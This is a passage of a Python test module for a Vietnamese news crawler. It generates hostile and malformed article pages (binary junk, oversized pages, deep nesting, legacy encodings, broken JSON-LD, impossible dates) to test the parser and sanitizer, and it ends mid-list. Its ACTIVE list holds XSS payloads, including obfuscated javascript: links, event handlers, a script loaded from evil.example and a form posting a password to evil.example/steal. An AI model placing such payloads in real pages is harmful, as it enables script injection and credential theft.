"""A deterministic corpus of malformed and hostile article pages, built in memory at test time.

``corpus()`` returns a list of :class:`Case` (a label, a category, the declared site whose family
markup and URL the page uses, and a ``build()`` that makes the page's bytes or str on demand, so
that the multi-megabyte pages exist only while a test reads them). Nothing here touches the
network or the disk except reading the saved fixtures in ``tests/fixtures/<site>/*.html``.

Family markup comes from two places: the generated sample portals (``Portal(site).handle(path)``)
and the saved fixture pages. Hostile content is injected right inside each family's article body
container (``div.content-fck``, ``div.article__body``, ``div.journal-content-article``,
``div.content-detail``, ``article.fck_detail``) or into ``<head>`` for metadata.

Used by ``tests/test_hostile.py``; ``python tests/hostile.py`` prints the counts per category.
"""

from __future__ import annotations

import gzip
import random
import re
import unicodedata
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache, lru_cache
from pathlib import Path

from crawler.parsers.page import MAX_HTML_BYTES
from crawler.samples import Portal

FIXTURES = Path(__file__).resolve().parent / "fixtures"

#: family → the declared site whose markup and URL stand for it
FAMILY_SITES: dict[str, str] = {
    "a_id": "baocantho",
    "mcms": "baolaocai",
    "liferay": "tiengiang",
    "ym_slug": "baoapbac",
    "vnexpress": "vnexpress",
}
SITES: tuple[str, ...] = tuple(FAMILY_SITES.values())
ORIGINS: dict[str, str] = {
    "baocantho": "https://baocantho.com.vn",
    "baolaocai": "https://baolaocai.vn",
    "tiengiang": "https://tiengiang.gov.vn",
    "baoapbac": "https://baoapbac.vn",
    "vnexpress": "https://vnexpress.net",
}
# The opening tag of each family's article body container.
BODY_OPEN: dict[str, re.Pattern[str]] = {
    site: re.compile(rf"<(?:div|article)\b[^>]*\bclass=\"[^\"]*\b{cls}\b[^\"]*\"[^>]*>")
    for site, cls in {
        "baocantho": "content-fck",
        "baolaocai": "article__body",
        "tiengiang": "journal-content-article",
        "baoapbac": "content-detail",
        "vnexpress": "fck_detail",
    }.items()
}
GENERIC_ORIGIN = "https://hostile.example"  # no declared site: the generic parser reads it

Page = bytes | str


@dataclass(frozen=True)
class Case:
    label: str
    """readable and unique: ``<category>/<what>[/<site>]``"""
    category: str
    site: str
    """the declared site whose family markup the page carries (and whose URL it is served from)"""
    build: Callable[[], Page] = field(repr=False, compare=False)
    scripted: bool = False
    """carries active content (script, handlers, javascript: links…) that body_html must not keep"""
    expect_text: str | None = None
    """a phrase the body holds when the page was decoded right (legacy encodings; not asserted)"""
    forbidden: tuple[str, ...] = ()
    """strings no field of the item may contain (a resolved external entity…)"""
    heavy: bool = False
    """megabytes of markup or tens of thousands of elements: parsed once (declared site) to keep the run short"""
    index: int = 0

    @property
    def slug(self) -> str:
        return re.sub(r"[^a-z0-9]+", "-", self.label.lower()).strip("-")

    @property
    def url(self) -> str:
        """A URL of the declared site (the family's URL shape does not matter to the parser)."""
        return f"{ORIGINS[self.site]}/hostile/{self.slug}-a{100000 + self.index}.html"

    @property
    def generic_url(self) -> str:
        """The same page on an undeclared host: the generic parser reads it."""
        return f"{GENERIC_ORIGIN}/hostile/{self.slug}.html"


# --- base pages in each family's markup ------------------------------------------------------------


@cache
def _portal(site: str) -> Portal:
    portal = Portal(site, n_articles=12)
    portal.base_url = ORIGINS[site]
    return portal


@lru_cache(maxsize=64)
def sample_page(site: str, article_id: int = 1) -> str:
    """A generated article page of ``site``'s family (ids 1..12 carry different awkward cases)."""
    portal = _portal(site)
    status, _, body = portal.handle(portal.article_path(article_id))
    assert status == 200, (site, article_id, status)
    return body.decode("utf-8")


@cache
def fixture_page(site: str) -> str:
    """The saved fixture page of ``site`` (a real or modelled page of the family)."""
    path = min((FIXTURES / site).glob("*.html"))
    return path.read_text("utf-8")


def inject_body(page: str, site: str, payload: str, *, end: bool = False) -> str:
    """``payload`` placed first inside the family's body container (or just after the first
    paragraph of it with ``end``: then the real text comes before and after)."""
    m = BODY_OPEN[site].search(page)
    assert m is not None, f"{site}: no body container in the page"
    at = m.end()
    if end:
        close = page.find("</p>", at)
        at = close + 4 if close != -1 else at
    return page[:at] + payload + page[at:]


def inject_head(page: str, payload: str) -> str:
    m = re.search(r"<head\b[^>]*>", page, re.IGNORECASE)
    assert m is not None
    return page[: m.end()] + payload + page[m.end():]


def set_charset(page: str, charset: str | None) -> str:
    """Every charset declaration of the page names ``charset`` (None: removed)."""
    if charset is None:
        page = re.sub(r"<meta\s+charset=[\"']?[\w-]+[\"']?\s*/?>", "", page, flags=re.IGNORECASE)
        return re.sub(r";\s*charset=[\w-]+", "", page, flags=re.IGNORECASE)
    page = re.sub(r"(<meta\s+charset=[\"']?)[\w-]+", rf"\g<1>{charset}", page, flags=re.IGNORECASE)
    return re.sub(r"(;\s*charset=)[\w-]+", rf"\g<1>{charset}", page, flags=re.IGNORECASE)


# --- encodings ------------------------------------------------------------------------------------

# The Vietnamese article the legacy-encoding pages carry. Its letters are all in the two tables below.
LEGACY_ARTICLE = (
    "Ngày 06/12, UBND tỉnh Tiền Giang tổ chức hội nghị tổng kết công tác năm 2023 tại thành phố Mỹ Tho.",
    "Đồng chí Nguyễn Văn Hùng phát biểu chỉ đạo, đề nghị các ngành phối hợp chặt chẽ.",
    ("Người dân đồng tình hưởng ứng phong trào xây dựng nông thôn mới, đóng góp hơn 19,5 tỷ đồng; "
     "các tuyến đường hoa được chăm sóc kỹ lưỡng."),
)

# VISCII (RFC 1456) and TCVN3 (TCVN 5712:1993 "ABC", the .VnTime fonts' layout) have no stdlib codec.
# These tables are APPROXIMATIONS: they hold only the letters of LEGACY_ARTICLE, written from public
# descriptions of the two encodings (and cross-checked once against glibc iconv's VISCII and
# TCVN5712-1). Any other non-ASCII character is folded to ASCII (diacritics dropped) by _legacy_encode,
# so a page in these encodings has its article text right and the rest of its text plain ASCII.
VISCII: dict[str, int] = {
    "à": 0xE0, "á": 0xE1, "â": 0xE2, "ì": 0xEC, "í": 0xED, "ó": 0xF3, "ô": 0xF4, "ù": 0xF9,
    "ă": 0xE5, "Đ": 0xD0, "đ": 0xF0, "ơ": 0xBD, "ư": 0xDF, "ạ": 0xD5, "ế": 0xAA, "ề": 0xAB,
    "ể": 0xAC, "ễ": 0xAD, "ỉ": 0xEF, "ị": 0xB8, "ố": 0xAF, "ồ": 0xB0, "ổ": 0xB1, "ộ": 0xB5,
    "ớ": 0xBE, "ờ": 0xB6, "ở": 0xB7, "ỡ": 0xDE, "ợ": 0xFE, "ứ": 0xD1, "ự": 0xF1, "ỷ": 0xD6,
    "ỹ": 0xDB,
}
TCVN3: dict[str, int] = {
    "à": 0xB5, "á": 0xB8, "â": 0xA9, "ì": 0xD7, "í": 0xDD, "ó": 0xE3, "ô": 0xAB, "ù": 0xEF,
    "ă": 0xA8, "Đ": 0xA7, "đ": 0xAE, "ơ": 0xAC, "ư": 0xAD, "ạ": 0xB9, "ế": 0xD5, "ề": 0xD2,
    "ể": 0xD3, "ễ": 0xD4, "ỉ": 0xD8, "ị": 0xDE, "ố": 0xE8, "ồ": 0xE5, "ổ": 0xE6, "ộ": 0xE9,
    "ớ": 0xED, "ờ": 0xEA, "ở": 0xEB, "ỡ": 0xEC, "ợ": 0xEE, "ứ": 0xF8, "ự": 0xF9, "ỷ": 0xFB,
    "ỹ": 0xFC,
}
_TONES = "\u0300\u0301\u0303\u0309\u0323"  # grave, acute, tilde, hook above, dot below


def ascii_fold(ch: str) -> str:
    if ch in "đĐ":
        return "d" if ch == "đ" else "D"
    base = "".join(c for c in unicodedata.normalize("NFD", ch) if not unicodedata.combining(c))
    return base if base.isascii() and base else "?"


def _legacy_encode(text: str, table: dict[str, int]) -> bytes:
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        if ord(ch) < 128:
            out.append(ord(ch))
        elif ch in table:
            out.append(table[ch])
        else:
            out += ascii_fold(ch).encode("ascii")
    return bytes(out)


def cp1258_encode(text: str) -> bytes:
    """Windows-1258 the way Vietnamese text is written in it: a base letter (with its circumflex,
    breve or horn, which cp1258 has precomposed) followed by a combining tone mark."""
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", ch)
        tones = "".join(c for c in parts if c in _TONES)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in _TONES))
        try:
            out += (base + tones).encode("cp1258")
        except UnicodeEncodeError:
            out += ascii_fold(ch).encode("ascii")
    return bytes(out)


ENCODERS: dict[str, Callable[[str], bytes]] = {
    "windows-1258": cp1258_encode,
    "viscii": lambda s: _legacy_encode(s, VISCII),
    "tcvn3": lambda s: _legacy_encode(s, TCVN3),
    "utf-16le-bom": lambda s: b"\xff\xfe" + s.encode("utf-16-le"),
    "utf-16be-bom": lambda s: b"\xfe\xff" + s.encode("utf-16-be"),
    "utf-16le": lambda s: s.encode("utf-16-le"),
    "utf-16be": lambda s: s.encode("utf-16-be"),
}


def legacy_page(site: str) -> str:
    """A sample page of ``site`` with LEGACY_ARTICLE's paragraphs first in its body."""
    paras = "".join(f"<p>{p}</p>" for p in LEGACY_ARTICLE)
    return inject_body(sample_page(site, 2), site, paras)


# --- active content --------------------------------------------------------------------------------

# (name, markup) injected into the article body. The visible text of these never says "javascript:".
ACTIVE: tuple[tuple[str, str], ...] = (
    ("script", "<p>Trước script.</p><script>document.title='pwned';alert(1)</script><p>Sau script.</p>"),
    ("script-src", '<script src="https://evil.example/x.js"></script><p>Đoạn văn bình thường.</p>'),
    ("script-inline-in-p", "<p>Chữ <script>alert(2)</script>trong đoạn văn.</p>"),
    ("style", "<style>body{display:none} p{background:url(javascript:alert(1))}</style><p>Có style.</p>"),
    ("style-attr", '<p style="background:url(javascript:alert(3));width:expression(alert(4))">Style lạ.</p>'),
    ("onclick", '<p onclick="alert(1)">Bấm vào đây.</p><p><a href="https://ok.example/" onclick="steal()">liên kết</a></p>'),
    ("img-onerror", '<p><img src="https://baocantho.com.vn/x.jpg" onerror="alert(1)" alt="Ảnh">Ảnh có onerror.</p>'),
    ("img-onerror-unquoted", "<p><img src=x onerror=alert(1)>Chữ sau ảnh hỏng.</p>"),
    ("svg-onload", '<svg onload="alert(1)"><circle r="5"/></svg><p>Sau SVG.</p>'),
    ("svg-script", "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(2)\"><text>x</text></a></svg><p>SVG script.</p>"),
    ("onmouseover-mixed-case", '<p ONMOUSEOVER="alert(1)" OnFocus="alert(2)">Di chuột qua.</p><span oNcLiCk="x()">Nhịp.</span>'),
    ("javascript-link", '<p>Xem <a href="javascript:alert(document.cookie)">tại đây</a> nhé.</p>'),
    ("javascript-mixed-case", '<p>Xem <a href="JaVaScRiPt:alert(1)">tại đây</a> nhé.</p>'),
    ("javascript-entity", '<p>Xem <a href="&#106;avascript:alert(1)">tại đây</a> và <a href="&#x6A;&#x61;vascript&#58;alert(2)">đây</a>.</p>'),
    ("javascript-padded-entity", '<p><a href="&#0000106&#0000097vascript:alert(1)">Số không đệm</a></p>'),
    ("javascript-tab-newline", '<p><a href="java\tscript:alert(1)">Tab</a> <a href="java&#x0A;script:alert(2)">LF</a> <a href=" javascript:alert(3)">cách</a></p>'),
    ("vbscript", '<p><a href="vbscript:msgbox(1)">VB</a></p>'),
    ("data-html-link", '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Dữ liệu</a></p>'),
    ("data-img", '<p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg">Ảnh data.</p>'),
    ("lazy-src-javascript", '<p><img data-src="javascript:alert(1)" src="data:text/html,x" alt="lười">Ảnh lười.</p>'),
    ("srcset-javascript", '<p><img srcset="javascript:alert(1) 1x" alt="srcset">Srcset.</p>'),
    ("iframe", '<iframe src="https://evil.example/"></iframe><p>Sau iframe.</p><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-inline", "<p>Có <iframe src=\"javascript:alert(1)\"></iframe> khung.</p>"),
    ("object-embed", '<object data="https://evil.example/x.swf"><param name="movie" value="x.swf"></object><embed src="https://evil.example/y.swf"><p>Sau object.</p>'),
    ("form", '<form action="https://evil.example/steal" method="post"><input name="pw" type="password"><button formaction="javascript:alert(1)">Gửi</button></form><p>Sau form.</p>'),
    ("form-inline", '<p>Nhập <input value="x" onfocus="alert(1)" autofocus> mật khẩu <textarea>ghi chú</textarea>.</p>'),
    ("encoded-script-text", "<p>Mã độc hiển thị như chữ: &lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(2)&gt;</p>"),
    ("meta-refresh-in-body", '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Chuyển hướng.</p>'),
    ("base-in-body", '<base href="javascript:alert(1)//"><p><a href="/tin-tuc/x.html">tương đối</a></p>'),
    ("math-href", '<p><math><mtext><a href="javascript:alert(1)">toán</a></mtext></math> Công thức.</p>'),
    ("nested-script-trick", "<p>Lồng &lt;scr<script>ipt&gt;alert(1)&lt;/scr</script>ipt&gt; thẻ.</p>"),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Biến đổi.</p></noscript><p>Sau noscript.</p>'),
    ("template", "<template><img src=x onerror=alert(1)></template><p>Sau template.</p>"),
    ("link-import", '<link rel="import" href="https://evil.example/x.html"><p>Sau link.</p>'),
    ("a-inside-figure", '<figure><a href="javascript:alert(1)"><img src="https://baocantho.com.vn/a.jpg" onload="alert(2)"></a><figcaption onclick="x()">Chú thích. Ảnh: A</figcaption></figure>'),
    ("table-img-handlers", '<table><tr><td><img src="https://baocantho.com.vn/b.jpg" onerror="alert(1)"></td></tr><tr><td onmouseover="x()">Chú thích bảng</td></tr></table>'),
    ("button-video-audio", '<video src="https://evil.example/v.mp4" onerror="alert(1)"></video><audio src=x onerror=alert(2)></audio><button onclick="x()">Nút</button><p>Sau media.</p>'),
    ("xml-ns-script", '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script><p>Namespace.</p>'),
)


# --- the corpus ------------------------------------------------------------------------------------


class _Builder:
    def __init__(self) -> None:
        self.cases: list[Case] = []
        self.labels: set[str] = set()

    def add(self, category: str, what: str, site: str, build: Callable[[], Page], **kw: object) -> None:
        label = f"{category}/{what}"
        assert label not in self.labels, label
        self.labels.add(label)
        self.cases.append(Case(label, category, site, build, index=len(self.cases), **kw))  # type: ignore[arg-type]


def _rot(i: int) -> str:
    return SITES[i % len(SITES)]


def _empty_and_binary(b: _Builder) -> None:
    rnd = random.Random(1258)
    noise = bytes(rnd.getrandbits(8) for _ in range(4096))
    noise_no_nul = bytes(x or 1 for x in noise)
    html = sample_page("baocantho").encode()
    png = (b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(13) + b"\x00\x00\x00\x00IDAT"
           + zlib.compress(noise) + b"\x00\x00\x00\x00IEND\xaeB`\x82")
    empties: list[tuple[str, Callable[[], Page]]] = [
        ("empty-bytes", lambda: b""),
        ("empty-str", lambda: ""),
        ("whitespace-bytes", lambda: b" \t\r\n \n\n   "),
        ("whitespace-str", lambda: " \t\r\n\u00a0\u2003\u200b\ufeff "),
        ("bom-only", lambda: b"\xef\xbb\xbf"),
        ("bom-whitespace", lambda: b"\xef\xbb\xbf  \n"),
        ("utf16-bom-only", lambda: b"\xff\xfe"),
        ("doctype-only", lambda: "<!DOCTYPE html>"),
        ("comment-only", lambda: "<!-- nothing -->"),
        ("empty-html", lambda: "<html></html>"),
        ("empty-body", lambda: "<html><head><title></title></head><body></body></html>"),
        ("nul-only", lambda: b"\x00" * 64),
        ("text-no-markup", lambda: "Chỉ có chữ, không có thẻ nào cả.\n\nĐoạn hai."),
        ("single-lt", lambda: "<"),
        ("processing-instruction-only", lambda: "<?php echo 1; ?>"),
    ]
    for i, (what, build) in enumerate(empties):
        b.add("empty", what, _rot(i), build)
    binaries: list[tuple[str, Callable[[], Page]]] = [
        ("random-bytes", lambda: noise),
        ("random-bytes-no-nul", lambda: noise_no_nul),
        ("png", lambda: png),
        ("gzip-of-html", lambda: gzip.compress(html, mtime=0)),
        ("zlib-of-html", lambda: zlib.compress(html)),
        ("pdf", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + noise_no_nul[:512]),
        ("jpeg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + noise),
        ("zip", lambda: b"PK\x03\x04\x14\x00\x00\x00" + noise),
        ("elf", lambda: b"\x7fELF\x02\x01\x01\x00" + noise),
        ("utf32-html", lambda: "\ufeff<html><body><p>UTF-32</p></body></html>".encode("utf-32")),
        ("html-then-binary", lambda: html[:3000] + noise),
        ("binary-then-html", lambda: noise_no_nul[:1000] + html),
        ("str-of-binary", lambda: noise.decode("latin-1")),
    ]
    for i, (what, build) in enumerate(binaries):
        b.add("binary", what, _rot(i), build)


def _size(b: _Builder) -> None:
    para = "<p>" + "Chữ Việt có dấu lặp lại nhiều lần. " * 30 + "</p>\n"  # ~1.1 kB
    for site in SITES[:1]:
        def over(site: str = site) -> bytes:
            filler = para.encode() * ((MAX_HTML_BYTES + (1 << 20)) // len(para.encode()) + 1)
            return inject_body(sample_page(site), site, "\x01FILL\x01").encode().replace(b"\x01FILL\x01", filler)
        b.add("size", f"over-limit-bytes/{site}", site, over, heavy=True)
    b.add("size", "over-limit-str/baolaocai", "baolaocai",
          lambda: inject_body(sample_page("baolaocai"), "baolaocai", para * ((MAX_HTML_BYTES + (1 << 20)) // len(para) + 1)),
          heavy=True)
    b.add("size", "over-limit-no-close/tiengiang", "tiengiang",
          lambda: sample_page("tiengiang")[:6000] + "x" * (MAX_HTML_BYTES + 4096))
    b.add("size", "one-5mb-paragraph/baoapbac", "baoapbac",
          lambda: inject_body(sample_page("baoapbac"), "baoapbac", "<p>" + "một đoạn văn dài " * 300_000 + "</p>"))
    b.add("size", "one-5mb-text-no-tags/vnexpress", "vnexpress",
          lambda: inject_body(sample_page("vnexpress"), "vnexpress", "chữ " * 1_200_000))
    b.add("size", "10000-images/baocantho", "baocantho", heavy=True, build=
          lambda: inject_body(sample_page("baocantho"), "baocantho", "".join(
              f'<img src="/image/fckeditor/upload/{i}.jpg" alt="ảnh {i}">' for i in range(10_000))))
    b.add("size", "10000-links/tiengiang", "tiengiang",
          lambda: inject_body(sample_page("tiengiang"), "tiengiang", "<p>" + " ".join(
              f'<a href="/documents/1/2/f{i}.pdf">tệp {i}</a>' for i in range(10_000)) + "</p>"))
    b.add("size", "10000-links-outside-body/vnexpress", "vnexpress",
          lambda: inject_head(sample_page("vnexpress"), "".join(f'<link rel="canonical" href="/c{i}">' for i in range(10_000))))
    huge = "A" * (1 << 20)
    for i, (what, attr) in enumerate((("class", f'<p class="{huge}">Thuộc tính lớn.</p>'),
                                      ("href", f'<p><a href="https://baoapbac.vn/{huge}">liên kết dài</a></p>'),
                                      ("img-src", f'<p><img src="/{huge}.jpg" alt="{huge}">Ảnh dài.</p>'),
                                      ("style", f'<p style="{huge}">Style dài.</p>'),
                                      ("canonical", "")),
                                     ):
        site = _rot(i)
        if what == "canonical":
            b.add("size", f"huge-attr-{what}/{site}", site,
                  lambda site=site: inject_head(sample_page(site), f'<link rel="canonical" href="/{huge}"><meta property="og:title" content="{huge}">'))
        else:
            b.add("size", f"huge-attr-{what}/{site}", site, lambda site=site, attr=attr: inject_body(sample_page(site), site, attr))
    b.add("size", "huge-title/baolaocai", "baolaocai",
          lambda: sample_page("baolaocai").replace('<h1 class="article__title cms-title ">', '<h1 class="article__title cms-title ">' + "Tiêu đề " * 100_000))
    b.add("size", "nbsp-entity-flood/baocantho", "baocantho",
          lambda: inject_body(sample_page("baocantho"), "baocantho", "<p>" + "&nbsp;" * 200_000 + "chữ</p>"))


def _nesting(b: _Builder) -> None:
    deep = 10_000
    for i, tag in enumerate(("div", "span", "p", "font", "b")):
        b.add("nesting", f"{deep}-deep-{tag}-page", _rot(i),
              lambda tag=tag: f"<html><body>{f'<{tag}>' * deep}Sâu quá.{f'</{tag}>' * deep}</body></html>")
    b.add("nesting", f"{deep}-deep-table-page", "baocantho",
          lambda: "<html><body>" + "<table><tr><td>" * deep + "Bảng sâu." + "</td></tr></table>" * deep + "</body></html>")
    for i, site in enumerate(SITES):
        tag = ("div", "span", "table", "p", "font")[i]
        open_, close = (f"<{tag}>", f"</{tag}>") if tag != "table" else ("<table><tr><td>", "</td></tr></table>")
        b.add("nesting", f"{deep}-deep-{tag}-in-body/{site}", site,
              lambda site=site, o=open_, c=close: inject_body(sample_page(site), site, o * deep + "Sâu." + c * deep))
    b.add("nesting", "300-unclosed-font-in-body/baolaocai", "baolaocai",
          lambda: inject_body(sample_page("baolaocai"), "baolaocai", "<font>" * 300 + "Font không đóng.", end=True))
    b.add("nesting", "300-unclosed-div-in-body/baoapbac", "baoapbac",
          lambda: inject_body(sample_page("baoapbac"), "baoapbac", "<div>" * 300 + "Div không đóng.", end=True))
    sib = 100_000
    for i, (what, unit) in enumerate((("p", "<p>x</p>"), ("span", "<span>y</span>"), ("br", "<br>"),
                                       ("img-no-src", "<img>"))):
        site = _rot(i)
        b.add("nesting", f"{sib}-siblings-{what}/{site}", site,
              lambda site=site, unit=unit: inject_body(sample_page(site), site, unit * sib), heavy=True)



def _charsets(b: _Builder) -> None:
    for i, site in enumerate(SITES):
        page = sample_page(site, 3)
        b.add("charset", f"utf8-declared-cp1258-bytes/{site}", site, lambda p=page: cp1258_encode(p))
        b.add("charset", f"cp1258-declared-utf8-bytes/{site}", site, lambda p=page: set_charset(p, "windows-1258").encode())
        b.add("charset", f"no-charset-utf8-bytes/{site}", site, lambda p=page: set_charset(p, None).encode())
        b.add("charset", f"unknown-charset-label/{site}", site, lambda p=page: set_charset(p, "x-no-such-charset").encode())
        b.add("charset", f"conflicting-declarations/{site}", site,
              lambda p=page: inject_head(set_charset(p, "iso-8859-1"), '<meta charset="utf-16">').encode())
    b.add("charset", "utf16-declared-utf8-bytes/baocantho", "baocantho", lambda: set_charset(sample_page("baocantho"), "utf-16").encode())
    b.add("charset", "utf8-declared-latin1-bytes/baolaocai", "baolaocai",
          lambda: sample_page("baolaocai").encode("latin-1", "replace"))


def _legacy(b: _Builder) -> None:
    expect = LEGACY_ARTICLE[0]
    for site in SITES:
        page = legacy_page(site)
        for enc, declared in (("windows-1258", "windows-1258"), ("windows-1258", None),
                              ("viscii", "viscii"), ("viscii", None), ("tcvn3", "tcvn3"), ("tcvn3", None),
                              ("utf-16le-bom", "utf-16"), ("utf-16be-bom", "utf-16"), ("utf-16le", "utf-16"),
                              ("utf-16be", None)):
            what = f"{enc}-{'declared' if declared else 'undeclared'}/{site}"
            b.add("legacy-encoding", what, site,
                  lambda p=page, enc=enc, declared=declared: ENCODERS[enc](set_charset(p, declared)), expect_text=expect)
    # str input that says it is something else
    b.add("legacy-encoding", "str-with-xml-decl-windows-1258", "baoapbac",
          lambda: '<?xml version="1.0" encoding="windows-1258"?>\n' + legacy_page("baoapbac"), expect_text=expect)
    b.add("legacy-encoding", "str-with-xml-decl-utf-16", "tiengiang",
          lambda: '<?xml version="1.0" encoding="UTF-16"?>' + legacy_page("tiengiang"), expect_text=expect)
    b.add("legacy-encoding", "str-with-meta-viscii", "baocantho",
          lambda: set_charset(legacy_page("baocantho"), "viscii"), expect_text=expect)


def _active(b: _Builder) -> None:
    for site in SITES:
        page = sample_page(site, 1)
        for name, markup in ACTIVE:
            b.add("active", f"{name}/{site}", site, lambda p=page, s=site, m=markup: inject_body(p, s, m), scripted=True)
        everything = "".join(m for _, m in ACTIVE)
        b.add("active", f"all-in-fixture/{site}", site,
              lambda s=site, e=everything: inject_body(fixture_page(s), s, e, end=True), scripted=True)
        b.add("active", f"all-in-head-and-title/{site}", site,
              lambda s=site: inject_head(sample_page(s, 4),
                                         '<base href="javascript:alert(1)//"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
                                         '<link rel="canonical" href="javascript:alert(1)"><meta property="og:url" content="JaVaScRiPt:alert(2)">'
                                         '<meta property="og:image" content="javascript:alert(3)">'),
              scripted=True)


def _jsonld(b: _Builder) -> None:
    big = "x" * (1 << 20)
    deep_array = "[" * 100_000 + "]" * 100_000
    deep_graph = '{"@graph":' * 5_000 + '{"@type":"NewsArticle","headline":"sâu"}' + "}" * 5_000
    variants: list[tuple[str, str]] = [
        ("truncated", '{"@context":"https://schema.org","@type":"NewsArticle","headline":"Cắt cụt","datePublished":"2024-01-0'),
        ("trailing-commas", '{"@type":"NewsArticle","headline":"Dấu phẩy thừa","author":[{"@type":"Person","name":"A",},],}'),
        ("date-number", '{"@type":"NewsArticle","headline":"Ngày là số","datePublished":20240115,"dateModified":1.7e9}'),
        ("date-list", '{"@type":"NewsArticle","headline":"Ngày là danh sách","datePublished":[5,"2024-01-15T10:00:00+07:00"],"dateModified":[]}'),
        ("date-object", '{"@type":"NewsArticle","headline":"Ngày là object","datePublished":{"@value":"2024-01-15"},"dateModified":{"x":[1]}}'),
        ("date-bool-null", '{"@type":"NewsArticle","datePublished":true,"dateModified":null,"headline":null}'),
        ("date-nan-infinity", '{"@type":"NewsArticle","datePublished":NaN,"dateModified":Infinity,"headline":-Infinity}'),
        ("author-number", '{"@type":"NewsArticle","headline":"Tác giả số","author":42}'),
        ("author-garbage", '{"@type":"NewsArticle","author":[1,null,{"name":2},{"@type":3,"name":["x"]},{"@type":"Person","name":{"a":1}},[["b"]]]}'),
        ("graph-garbage", '{"@graph":[1,"x",null,[[[]]],{"@graph":{"@graph":5}},{"@type":null},{"@type":["NewsArticle",5,{"a":1}],"headline":["A",2]}]}'),
        ("graph-5000-deep", deep_graph),
        ("array-100000-deep", deep_array),
        ("type-weird", '[{"@type":5},{"@type":{"x":1}},{"@type":[]},{"@type":"newsarticle","headline":{"@value":"x"}}]'),
        ("breadcrumb-garbage", '{"@type":"BreadcrumbList","itemListElement":[{"position":"abc","name":"A"},{"position":null,"item":{"name":5}},7,"s",{"position":[1],"name":"B"},{"position":1e400,"name":"C"}]}'),
        ("breadcrumb-position-infinity", '{"@type":"BreadcrumbList","itemListElement":[{"position":1e999,"name":"Vô cực"},{"position":2,"name":"Hai"}]}'),
        ("breadcrumb-position-nan", '{"@type":"BreadcrumbList","itemListElement":[{"position":NaN,"name":"NaN"},{"position":-Infinity,"name":"Âm"}]}'),
        ("one-mb-strings", f'{{"@type":"NewsArticle","headline":"{big}","description":"{big}","articleBody":"{big}","author":{{"name":"{big}"}}}}'),
        ("lone-surrogate-escapes", '{"@type":"NewsArticle","headline":"Tiêu \\ud800 đề","description":"Mô \\udfff tả","author":{"@type":"Person","name":"\\ud83d"}}'),
        ("nul-escapes", '{"@type":"NewsArticle","headline":"Tiêu\\u0000đề","description":"a\\u0000b","author":"C\\u0000D","keywords":"x\\u0000y"}'),
        ("not-json", "var dataLayer = {headline: 'JS, not JSON'}; /* comment */"),
        ("scalars", "42"),
        ("script-breakout", '{"@type":"NewsArticle","headline":"</script><script>alert(1)</script><p onclick=\'x()\'>thoát</p>"}'),
        ("bom-and-controls", '\ufeff{"@type":"NewsArticle","headline":"BOM\x01\x02\x1f"}'),
        ("huge-number", '{"@type":"NewsArticle","headline":1e999,"datePublished":"1e999","wordCount":' + "9" * 5000 + "}"),
        ("duplicate-keys", '{"@type":"NewsArticle","@type":"Person","headline":"A","headline":"B"}'),
    ]
    for i, (what, ld) in enumerate(variants):
        sites = SITES if what in ("array-100000-deep", "breadcrumb-position-infinity", "truncated", "one-mb-strings") else (_rot(i),)
        for site in sites:
            b.add("json-ld", f"{what}/{site}", site,
                  lambda s=site, ld=ld: inject_head(sample_page(s, 5), f'<script type="application/ld+json">{ld}</script>'))


_ISO_RE = re.compile(r"\d{4}-\d{2}-\d{2}(?:T\d{2}:\d{2}(?::\d{2})?(?:\.\d+)?(?:Z|[+-]\d{2}:?\d{2})?)?")
_VISIBLE_RE = re.compile(r"\d{1,2}/\d{1,2}/\d{4}(?:(?:\s*[-,]\s*|\s+)\d{1,2}:\d{2})?")
_WEEKDAY_RE = re.compile(r"Thứ (?:Hai|Ba|Tư|Năm|Sáu|Bảy|hai|ba|tư|năm|sáu|bảy)|Chủ nhật|Chủ Nhật")


def with_dates(page: str, iso: str, visible: str, weekday: str | None = None, epoch: str | None = None) -> str:
    """Every machine-readable date of the page becomes ``iso`` and every visible one ``visible``."""
    page = _ISO_RE.sub(lambda _: iso, page)
    page = _VISIBLE_RE.sub(lambda _: visible, page)
    if weekday is not None:
        page = _WEEKDAY_RE.sub(lambda _: weekday, page)
    if epoch is not None:
        page = re.sub(r'data-time="\d+"', f'data-time="{epoch}"', page)
    return page


def _dates(b: _Builder) -> None:
    everywhere = [  # on every family
        ("year-0001", "0001-01-01T00:00:00+07:00", "01/01/0001 00:00"),
        ("year-9999", "9999-12-31T23:59:59+07:00", "31/12/9999 23:59"),
        ("feb-30", "2024-02-30T10:00:00+07:00", "30/02/2024 10:00"),
        ("time-99-99", "2024-01-15T99:99:00+07:00", "15/01/2024 99:99"),
        ("epoch-1e15", "1000000000000000", "1000000000000000"),
        ("year-2100", "2100-01-01T08:00:00+07:00", "01/01/2100 08:00"),
    ]
    rotated = [
        ("negative-iso", "-2024-01-15T10:00:00+07:00", "-15/01/2024"),
        ("negative-epoch", "-1", "-1"),
        ("year-1989", "1989-12-31T10:00:00+07:00", "31/12/1989 10:00"),
        ("month-13", "2024-13-01T10:00:00+07:00", "01/13/2024 10:00"),
        ("day-00", "2024-00-00T00:00:00+07:00", "00/00/2024 00:00"),
        ("huge-year", "99999999999-01-01T00:00:00+07:00", "01/01/99999999999"),
        ("ten-kb-digits", "1" * 10_000, "2" * 10_000),
